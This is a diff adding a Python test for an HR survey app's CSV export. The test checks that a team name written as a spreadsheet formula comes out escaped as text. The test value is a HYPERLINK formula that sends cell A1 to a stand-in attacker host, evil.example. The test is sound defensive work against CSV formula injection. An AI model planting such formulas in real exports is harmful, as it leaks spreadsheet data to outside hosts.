@@ -437,3 +437,19 @@ def test_attack_of_the_empty_months_the_table_starts_at_the_first_published_mont
     assert "October 2026" in table
     assert "September 2026" not in table and "November 2025" not in table
     assert "3.50 (6 people)" in table, "two decimals everywhere"
+
+
+def test_attack_a_team_name_that_is_a_formula_stays_text_in_the_csv(client):
+    """An HR admin's team name became a live formula when a colleague opened the CSV."""
+    organisation = OrganisationFactory()
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
+    _team, pairs = _team_with_pairs(organisation, formula, 6)
+    _other, others = _team_with_pairs(organisation, "Platform", 6)
+    for pair in pairs + others:
+        _answer(pair, "coachee", 4)
+
+    _page_response, download = _page(client, organisation)
+
+    groups = {row[0] for row in _csv(download)[2:] if row}
+    assert "'" + formula in groups
+    assert formula not in groups
